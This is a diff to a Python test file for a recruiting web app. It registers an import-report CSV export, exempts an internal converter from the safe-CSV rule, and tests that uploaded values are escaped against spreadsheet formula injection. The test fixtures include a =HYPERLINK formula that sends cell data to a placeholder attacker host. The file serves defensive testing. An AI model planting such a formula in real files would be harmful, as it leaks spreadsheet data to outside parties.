@@ -22,7 +22,11 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9
 EXPORTS = {
     "audit/views.py": {"audit_export"},
     "surveys/staff_views.py": {"cnps_export"},
+    "imports/views.py": {"import_report"},
 }
+# Modules that write CSV that is never served: a JSON Resume turned into the
+# importer's own input, which then goes through the importer's checks.
+INTERNAL_CSV = ["imports/jsonresume.py"]
 
 
 def source_files():
@@ -45,7 +49,9 @@ def test_every_csv_export_is_known_here():
 
 def test_no_csv_is_written_around_safecsv():
     raw = re.compile(r"csv\.(writer|DictWriter)\(")
-    offenders = [name for name, text in source_files() if raw.search(text)]
+    offenders = [
+        name for name, text in source_files() if raw.search(text) and name not in INTERNAL_CSV
+    ]
     assert offenders == ["lib/safecsv.py"], (
         f"Write CSV with rekryt.lib.safecsv.csv_response, not csv.writer: {offenders}"
     )
@@ -82,3 +88,20 @@ def test_the_audit_export_neutralises_formulas(client, alice):
     found = rows(client.get(reverse("audit_export"), {"action": "login_failed"}))[1:]
     assert {row[5] for row in found} == {"'" + value for value in HOSTILE}
     assert {row[4] for row in found} == {"'" + value[:40] for value in HOSTILE}
+
+
+def test_the_import_report_neutralises_formulas(client, rita):
+    """A refused row's column comes from the uploaded file's own header."""
+    from rekryt.imports.models import ImportJob, Status
+
+    job = ImportJob.objects.create(
+        token="t" * 32,
+        original_name="people.csv",
+        status=Status.DONE,
+        refused=[[n + 2, value, value] for n, value in enumerate(HOSTILE)],
+        created_by=rita,
+    )
+    client.force_login(rita)
+    found = rows(client.get(reverse("import_report", args=[job.token])))[1:]
+    assert {row[1] for row in found} == {"'" + value for value in HOSTILE}
+    assert {row[2] for row in found} == {"'" + value for value in HOSTILE}
